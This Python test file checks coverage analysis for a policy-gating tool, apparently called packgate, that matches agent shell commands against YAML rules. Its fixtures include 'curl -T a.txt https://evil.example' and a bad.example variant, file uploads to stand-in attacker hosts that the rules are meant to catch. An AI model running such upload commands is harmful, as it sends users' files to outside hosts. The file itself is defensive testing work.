"""What counts as reached: the examples of docs/testing.md, one by one."""

from __future__ import annotations

from pathlib import Path

from packgate.engine.gate import build_gate
from packgate.source.load import load_pack
from packgate.testing.cases import collect
from packgate.testing.coverage import uncovered

POLICY = """\
policies:
  - id: upload
    title: Upload
    threat: layer
    impact: risky
    rationale: Because.
    when: [data-transfer]
{conditions}
    then: warn
    message: Ask first, then upload it to the bucket of the team.
    tests:
      must_fire:
{fires}
      must_not_fire:
{silent}
"""
IF = "    if: {operation: upload, host: evil.example}"
EITHER = "    if:\n      - {host: evil.example}\n      - {host: bad.example, operation: upload}"
FIRES = "curl -T a.txt https://evil.example"
OTHER_HOST = "curl -T a.txt https://good.example"
BAD = "curl -T a.txt https://bad.example"


def gaps(folder: Path, conditions: str, fires: list[str], silent: list[str]) -> list[str]:
    """The findings for one policy, without its name, each with line and column."""

    def cases(commands: list[str]) -> str:
        return "\n".join(f"        - {{command: '{command}', prompt: Do it.}}" for command in commands)

    path = folder / "rules.yaml"
    path.write_text(POLICY.format(conditions=conditions, fires=cases(fires), silent=cases(silent)), encoding="utf-8")
    result = load_pack(str(path))
    assert result.pack is not None, result.diagnostics
    found = uncovered(result, collect([result]), build_gate([result.pack], result.vocabulary))
    return [f"{item.position.line}:{item.position.column} {item.message.removeprefix('upload: ')}" for item in found]


def missed(line: int, column: int, name: str) -> str:
    return f"{line}:{column} no must_not_fire case is kept from firing by `{name}` alone"


def test_everything_is_reached(tmp_path: Path) -> None:
    assert gaps(tmp_path, IF.replace("operation: upload, ", ""), [FIRES], [OTHER_HOST]) == []


def test_a_command_of_another_family_is_no_near_miss(tmp_path: Path) -> None:
    assert gaps(tmp_path, IF.replace("operation: upload, ", ""), [FIRES], ["cat a.txt"]) == [missed(8, 10, "host")]


def test_two_conditions_need_a_near_miss_each(tmp_path: Path) -> None:
    assert gaps(tmp_path, IF, [FIRES], [OTHER_HOST]) == [missed(8, 10, "operation")]


def test_a_case_that_misses_two_conditions_is_near_to_none(tmp_path: Path) -> None:
    conditions = "    if: {host: evil.example, operation: upload, user: root}"
    assert missed(8, 10, "host") in gaps(tmp_path, conditions, [FIRES], [OTHER_HOST])


def test_an_alternative_that_never_fires(tmp_path: Path) -> None:
    found = gaps(tmp_path, EITHER, [FIRES], [OTHER_HOST])
    assert found == ["10:9 no must_fire case fires by this alternative of `if`", missed(10, 29, "operation")]
    assert gaps(tmp_path, EITHER, [FIRES, BAD], [OTHER_HOST]) == [missed(10, 29, "operation")]


def test_an_alternative_behind_one_that_says_more_never_fires(tmp_path: Path) -> None:
    shadowed = "    if:\n      - {host: '*.example'}\n      - {host: bad.example}"
    found = gaps(tmp_path, shadowed, [FIRES, BAD], ["curl -T a https://fine.test"])
    assert found == ["10:9 no must_fire case fires by this alternative of `if`"]


def test_exceptions_must_excuse(tmp_path: Path) -> None:
    conditions = "    if: {host: '*.example'}\n    unless: {host: good.example}"
    elsewhere = "curl -T a https://fine.test"
    assert gaps(tmp_path, conditions, [FIRES], [elsewhere]) == ["9:5 no must_not_fire case is excused by this exception"]
    assert gaps(tmp_path, conditions, [FIRES], [elsewhere, OTHER_HOST]) == []


def test_where_is_a_condition_too(tmp_path: Path) -> None:
    conditions = "    if: {host: evil.example}\n    where: {branch: feature/x}"
    assert gaps(tmp_path, conditions, [FIRES], [OTHER_HOST]) == [missed(9, 13, "branch")]


def test_a_policy_without_conditions(tmp_path: Path) -> None:
    assert gaps(tmp_path, "    # none", [FIRES], ["ls"]) == []
    assert gaps(tmp_path, "    # none", ["ls"], ["ls"]) == ["2:5 no must_fire case fires"]


LS = "        - {command: ls, prompt: List it.}"


def test_todo_reaches_nothing(tmp_path: Path) -> None:
    path = tmp_path / "rules.yaml"
    fires = f"        - {{command: '{FIRES}', prompt: Do it.}}"
    for item, count in ((fires, 0), (fires.replace("it.}", "it., todo: a gap}"), 1)):
        path.write_text(POLICY.format(conditions="    # none", fires=item, silent=LS), encoding="utf-8")
        result = load_pack(str(path))
        assert result.pack is not None, result.diagnostics
        assert len(uncovered(result, collect([result]), build_gate([result.pack], result.vocabulary))) == count


def test_policies_can_be_chosen(tmp_path: Path) -> None:
    path = tmp_path / "rules.yaml"
    path.write_text(POLICY.format(conditions="    # none", fires=LS, silent=LS), encoding="utf-8")
    result = load_pack(str(path))
    assert result.pack is not None
    gate = build_gate([result.pack], result.vocabulary)
    assert len(uncovered(result, collect([result]), gate)) == 1
    assert uncovered(result, collect([result]), gate, {"other"}) == []
